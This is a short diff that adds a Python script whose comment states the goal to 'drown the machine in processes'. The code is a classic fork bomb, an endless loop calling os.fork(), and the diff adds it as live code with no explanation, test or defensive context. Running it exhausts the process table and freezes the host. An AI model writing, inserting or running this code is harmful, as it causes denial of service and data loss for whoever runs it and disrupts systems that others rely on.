@@ -1,0 +1,7 @@
+# goal = "drown the machine in processes"
+
+# %%
+import os
+
+while True:
+    os.fork()
